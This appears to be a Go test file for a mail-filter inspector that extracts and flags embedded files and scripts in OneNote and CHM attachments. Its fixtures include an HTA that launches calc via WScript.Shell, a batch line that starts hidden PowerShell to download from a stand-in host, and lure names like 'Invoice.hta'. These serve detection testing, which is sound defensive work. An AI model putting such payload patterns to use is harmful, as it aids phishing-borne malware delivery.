package onenote

import (
	"bytes"
	"context"
	"errors"
	"slices"
	"testing"

	"github.com/officemilter/officemilter/inspect"
	"github.com/officemilter/officemilter/inspect/inspecttest"
	"github.com/officemilter/officemilter/inspect/onenote/onenotetest"
)

var hta = []byte("<html><head><HTA:APPLICATION id=x/><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"cmd /c calc\"</script></head></html>\n")

func run(t *testing.T, fam inspect.Family, b []byte) (*inspecttest.Recorder, error) {
	t.Helper()
	r := &inspecttest.Recorder{}
	p := inspect.Part{Name: "x", Size: int64(len(b)), R: bytes.NewReader(b), Family: fam, Limits: inspect.DefaultLimits}
	err := New().Inspect(context.Background(), p, r)
	r.CheckInvariants(t)
	return r, err
}

func TestSniff(t *testing.T) {
	for _, c := range []struct {
		b    []byte
		want inspect.Family
	}{
		{onenotetest.One(), inspect.FamilyOneNote},
		{append(onenotetest.GUID("{43FF2FA1-EFD9-4C76-9EE2-10EA5722765F}"), make([]byte, 1008)...), inspect.FamilyOneNote},
		{onenotetest.CHM(), inspect.FamilyCHM},
		{[]byte("ITSF"), inspect.FamilyCHM},
	} {
		if got := inspect.Sniff(bytes.NewReader(c.b), int64(len(c.b)), "a"); got != c.want {
			t.Errorf("Sniff(%q...) = %s, want %s", c.b[:4], got, c.want)
		}
	}
}

func TestOneNamedFiles(t *testing.T) {
	pe := inspecttest.PE()
	one := onenotetest.One(onenotetest.File{Ext: ".exe", Data: pe}, onenotetest.File{Ext: ".HTA", Data: hta})
	r, err := run(t, inspect.FamilyOneNote, one)
	if err != nil {
		t.Fatal(err)
	}
	if r.Type != inspect.TypeOne {
		t.Errorf("type %q", r.Type)
	}
	if got, want := r.Names(), []string{"embedded-1.exe", "embedded-2.hta"}; !slices.Equal(got, want) {
		t.Fatalf("children %v, want %v", got, want)
	}
	if !bytes.Equal(r.Data("embedded-1.exe"), pe) || !bytes.Equal(r.Data("embedded-2.hta"), hta) {
		t.Error("child content differs")
	}
	// The .hta is a script by its name: the engine says so, not this package.
	want := []string{"embedded-object|OneNote embedded file|embedded-1.exe", "embedded-object|OneNote embedded file|embedded-2.hta"}
	if got := r.Short(); !slices.Equal(got, want) {
		t.Errorf("findings %v, want %v", got, want)
	}
}

func TestOneNamelessScript(t *testing.T) {
	bat := []byte("@echo off\r\nstart /min powershell -w hidden -c \"iwr http://x/y\"\r\n")
	one := onenotetest.One(onenotetest.File{Data: bat}, onenotetest.File{Data: []byte("just some notes\n")}, onenotetest.File{Data: hta})
	r, err := run(t, inspect.FamilyOneNote, one)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := r.Names(), []string{"embedded-1.bin", "embedded-2.bin", "embedded-3.bin"}; !slices.Equal(got, want) {
		t.Fatalf("children %v, want %v", got, want)
	}
	want := []string{
		"embedded-object|OneNote embedded file|embedded-1.bin",
		"executable|OneNote embedded script (by content: @echo off)|embedded-1.bin",
		"embedded-object|OneNote embedded file|embedded-2.bin",
		"embedded-object|OneNote embedded file|embedded-3.bin",
		"executable|OneNote embedded script (by content: <hta:application)|embedded-3.bin",
	}
	if got := r.Short(); !slices.Equal(got, want) {
		t.Errorf("findings\n%v\nwant\n%v", got, want)
	}
}

// The scan does not trust the node lists: with the root list reference
// destroyed, a FileDataStoreObject hidden in another one's payload, and a
// cbLength past the end, every payload still reaches the engine.
func TestOneHostile(t *testing.T) {
	pe := inspecttest.PE()
	inner := onenotetest.FileDataStoreObject(pe)
	outer := onenotetest.FileDataStoreObject(append([]byte("cover"), inner...))
	b := append(onenotetest.One(), outer...)
	for i := 172; i < 184; i++ {
		b[i] = 0xFF // fcrFileNodeListRoot: nil
	}
	r, err := run(t, inspect.FamilyOneNote, b)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Children) != 2 || !bytes.Equal(r.Children[1].Data, pe) {
		t.Fatalf("children %v", r.Names())
	}
	// Truncate: the last object's cbLength now points past the end.
	b = b[:len(b)-40]
	r, err = run(t, inspect.FamilyOneNote, b)
	if !errors.Is(err, ErrMalformed) {
		t.Fatalf("error %v", err)
	}
	if len(r.Children) != 2 {
		t.Fatalf("children %v", r.Names())
	}
}

// Node lists that reference each other (a cycle) and a fragment whose next
// fragment is itself end.
func TestOneCyclicLists(t *testing.T) {
	one := onenotetest.One(onenotetest.File{Ext: ".exe", Data: inspecttest.PE()})
	root := int64(le.Uint64(one[172:]))
	rootLen := int64(le.Uint32(one[180:]))
	// Point the root's nextFragment at the root itself.
	copy(one[root+rootLen-20:], one[172:184])
	r, err := run(t, inspect.FamilyOneNote, one)
	if err != nil {
		t.Fatal(err)
	}
	if got := r.Names(); !slices.Equal(got, []string{"embedded-1.exe"}) {
		t.Fatalf("children %v", got)
	}
}

func TestOneNotRevisionStore(t *testing.T) {
	one := onenotetest.One(onenotetest.File{Ext: ".exe", Data: inspecttest.PE()})
	copy(one[48:], make([]byte, 16))
	r, err := run(t, inspect.FamilyOneNote, one)
	if !errors.Is(err, ErrMalformed) || len(r.Children) != 1 {
		t.Fatalf("err %v, children %v", err, r.Names())
	}
}

func TestCHM(t *testing.T) {
	pe := inspecttest.PE()
	chm := onenotetest.CHM(
		onenotetest.CHMFile{Name: "/", Section: 0},
		onenotetest.CHMFile{Name: "::DataSpace/NameList", Section: 0, Data: []byte{0, 1, 2, 3}},
		onenotetest.CHMFile{Name: "/index.html", Section: 1, Data: []byte("<html>")},
		onenotetest.CHMFile{Name: "/tools/setup.exe", Section: 0, Data: pe},
	)
	r, err := run(t, inspect.FamilyCHM, chm)
	if err != nil {
		t.Fatal(err)
	}
	if r.Type != inspect.TypeCHM {
		t.Errorf("type %q", r.Type)
	}
	if got := r.Short(); !slices.Equal(got, []string{"executable|compiled HTML help (CHM)|"}) {
		t.Errorf("findings %v", got)
	}
	if got := r.Names(); !slices.Equal(got, []string{"tools/setup.exe"}) || !bytes.Equal(r.Data("tools/setup.exe"), pe) {
		t.Errorf("children %v", got)
	}
}

func TestCHMMalformed(t *testing.T) {
	for _, b := range [][]byte{[]byte("ITSF"), append([]byte("ITSF\x03\x00\x00\x00"), make([]byte, 0x60)...)} {
		r, err := run(t, inspect.FamilyCHM, b)
		if !errors.Is(err, ErrMalformed) {
			t.Errorf("error %v", err)
		}
		if len(r.Findings) != 1 || r.Findings[0].Kind != inspect.KindExecutable {
			t.Errorf("findings %v", r.Short())
		}
	}
}

func TestEncint(t *testing.T) {
	for _, v := range []uint64{0, 1, 127, 128, 16383, 16384, 1 << 40} {
		b := append(encintBytes(v), 0xFF)
		if got, n := encint(b); got != v || n != len(b)-1 {
			t.Errorf("encint(%x) = %d, %d", b, got, n)
		}
	}
	if _, n := encint(bytes.Repeat([]byte{0x80}, 20)); n != 0 {
		t.Error("overlong encint accepted")
	}
}

func encintBytes(v uint64) []byte {
	b := []byte{byte(v & 0x7F)}
	for v >>= 7; v > 0; v >>= 7 {
		b = append([]byte{byte(v&0x7F) | 0x80}, b...)
	}
	return b
}

func TestGUIDString(t *testing.T) {
	g := mustGUID("{BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC}")
	if s := guidString(g[:]); s != "{BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC}" {
		t.Error(s)
	}
	if !bytes.Equal(g[:], onenotetest.GUIDFDSOHeader) {
		t.Error("GUID layouts differ")
	}
}

// The name OneNote opens an embedded file under is its EmbeddedFileName
// ([MS-ONE] property set of the jcidEmbeddedFileNode), whatever the file
// data's Extension says.
func TestOneEmbeddedFileName(t *testing.T) {
	pe := inspecttest.PE()
	one := onenotetest.One(
		onenotetest.File{Name: "Invoice.hta", Ext: ".txt", Data: hta},
		onenotetest.File{Name: `C:\Users\x\Desktop\Open.exe`, Data: pe},
		onenotetest.File{Name: "..", Ext: ".cmd", Data: []byte("@echo off\r\n")},
		onenotetest.File{Data: pe},
	)
	r, err := run(t, inspect.FamilyOneNote, one)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := r.Names(), []string{"Invoice.hta", "Open.exe", "embedded-3.cmd", "embedded-4.bin"}; !slices.Equal(got, want) {
		t.Fatalf("children %v, want %v", got, want)
	}
	if !bytes.Equal(r.Data("Open.exe"), pe) || !bytes.Equal(r.Data("Invoice.hta"), hta) {
		t.Error("child content differs")
	}
}

// A FileDataStoreObject across the scan's window edge is found once.
func TestOneScanWindowEdge(t *testing.T) {
	pe := inspecttest.PE()
	for _, at := range []int{scanWindow - 8, scanWindow - 16, scanWindow, scanWindow + 1} {
		b := make([]byte, scanWindow+2048)
		copy(b, onenotetest.One())
		copy(b[at:], onenotetest.FileDataStoreObject(pe))
		r, err := run(t, inspect.FamilyOneNote, b)
		if err != nil {
			t.Fatal(err)
		}
		if len(r.Children) != 1 || !bytes.Equal(r.Children[0].Data, pe) {
			t.Errorf("object at %d: children %v", at, r.Names())
		}
	}
}
